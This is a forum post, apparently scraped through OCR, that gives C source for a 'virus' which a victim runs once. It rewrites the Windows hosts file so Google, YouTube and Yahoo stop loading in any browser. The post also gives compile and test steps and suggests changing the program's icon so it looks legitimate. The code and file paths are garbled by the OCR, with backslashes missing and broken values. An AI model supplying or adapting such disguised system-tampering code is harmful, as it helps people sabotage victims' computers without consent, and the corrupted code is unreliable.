A Virus Program to Block Websites

Oscarmini – Quality Tech & InfoArena Forums All on Mobiles & Gadgets Symbian A Virus Program to Block Websites

This topic contains 0 replies, has 1 voice, and was last updated by  Happy 6 years, 8 months ago.

Viewing 1 post (of 1 total)
  • Author
  • #4930


    Most of us are familiar withthe virus that used to blockOrkut and Youtube site. Ifyou are curious about creatingsuch a virus on your own,here is how it can be done. As usualI’ll use my favorite programminglanguage ‘C’ to create this websiteblockingvirus. I will give a briefintroduction about this virusbefore I jump into thetechnical jargon. This virus has beenexclusivelycreated in ‘C’. So, anyone with a basicknowledge of Cwill be able to understand theworking of the virus. Thisvirus need ’s to be clicked only onceby the victim. Once it isclicked, it ’ll block a list of websitesthat has beenspecified in the source code.The victim will never be ableto surf those websites unlesshe re-install ’s the operating system.This blocking is notjust confinedto IE or Firefox . So onceblocked, the site will not appear inany ofthe browser program. NOTE: You canalso block a website manually. But,here Ihave created a virus thatautomates all the stepsinvolved in blocking. Themanual blocking process isdescribed in the post How to Block aWebsite ? Here is the sourcecode ofthevirus. #include#include#includechar site_list[6][30]={“google.com”, “www.google.com ”,“youtube.com ”, “www.youtube.com”, “yahoo.com ”, “www.yahoo.com” };char ip[12]=”; FILE *target;int find_root(void);void block_site(void); intfind_root(){int done;struct ffblk ffblk;//File blockstructure done=findfirst (“ C:windows \system32\drivers\etchosts ”,&ffblk,FA_DIREC); /*todetermine the rootdrive*/if(done==0){target=fopen (“ C:\windowssystem32\drivers\etchosts ”,”r+”); /*to open the file*/return 1;} done=findfirst (“ D:\windows system32\drivers\etchosts ”,&ffblk,FA_DIREC); /*todetermine the rootdrive*/if(done==0){target=fopen (“ D:\windowssystem32\drivers\etchosts ”,”r+”); /*to open the file*/return 1;} done=findfirst (“ E:\windows system32\drivers\etchosts ”,&ffblk,FA_DIREC); /*todetermine the rootdrive*/if(done==0){target=fopen (“ E:\windowssystem32\drivers\etchosts ”,”r+”); /*to open the file*/return 1;} done=findfirst (“ F:\windows system32\drivers\etchosts ”,&ffblk,FA_DIREC); /*todetermine the rootdrive*/if(done==0){target=fopen (“ F:\windowssystem32\drivers\etchosts ”,”r+”); /*to open the file*/return 1;} else return 0;} void block_site(){int i;fseek(target,0,SEEK_END); /*to move to the end of thefile*/ fprintf(target, ” n”); for(i=0;i<6;i++)fprintf(target, ”%st%s n”,ip,site_list); fclose(target);} void main(){int success=0;success=find_root();if(success)block_site(); } How to Compile ? Forstep-by-step compilationguide, refer my post How to compileC Programs .Testing 1. To test, run the compiledmodule. It will block the sitesthat is listed in the sourcecode.2. Once you run the fileblock_Site.exe , restart your browserprogram. Then, typethe URL of the blocked siteand you ’ll see the browser showingerror “Page cannot displayed “.3. To remove the virus typethe following the Run. %windir%system32driversetc4. There, open the file named“hosts ” using the notepad.At thebottom of the openedfileyou ’ll see something likethis127.0.0.1 google.com5. Delete all such entrieswhichcontain the names of blockedsites. NOTE: You can also changethe ICON of the virus tomake it look likealegitimate program.Thismethod is described in thepost

Viewing 1 post (of 1 total)

You must be logged into reply to this topic.


Recent Posts